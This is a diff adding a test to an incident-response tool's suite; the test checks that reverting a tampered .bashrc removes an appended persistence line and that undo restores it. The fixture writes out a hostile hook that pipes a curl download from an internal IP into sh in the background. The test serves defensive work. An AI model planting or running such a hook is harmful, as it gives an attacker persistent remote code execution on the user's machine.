@@ -164,6 +164,30 @@ def test_the_api_quarantines_a_real_file_and_an_undo_restores_it(setup, tmp_path
     assert [s["step"] for s in view["audit"]][-2:] == ["undo delivered", "undo result"]
 
 
+def test_the_api_reverts_a_persistence_file_and_an_undo_puts_the_lines_back(setup, tmp_path):
+    rc = tmp_path / "home" / ".bashrc"
+    rc.parent.mkdir()
+    rc.write_bytes(b"alias ll='ls -l'\nexport EDITOR=vi\n")
+    original = rc.read_bytes()
+    settings = ResponseSettings(state_dir=tmp_path / "rc-response", persistence_files=(str(rc),))
+    responder = Responder.open(Policy(), build_context(settings))
+    responder.keep_baseline()  # as the agent does when it starts
+    runner = CommandRunner(client=setup.runner.client, responder=responder)
+    hook = b"nohup sh -c 'curl -s http://10.231.9.9/x | sh' >/dev/null 2>&1 &\n"
+    with rc.open("ab") as handle:
+        handle.write(hook)
+    action = setup.act("revert_file", {"type": "persistence_file", "path": str(rc)})
+    assert runner.poll() == 1
+    view = setup.action(action)
+    assert view["state"] == "done", view
+    assert rc.read_bytes() == original
+    undo = setup.call(f"/actions/{action}/undo", setup.analyst)
+    assert undo.status_code == 200, undo.text
+    runner.poll()
+    assert setup.action(action)["state"] == "undone"
+    assert rc.read_bytes() == original + hook
+
+
 def ruleset() -> str:
     done = subprocess.run([*INSIDE, "list", "ruleset"], capture_output=True, text=True, check=True)
     return done.stdout
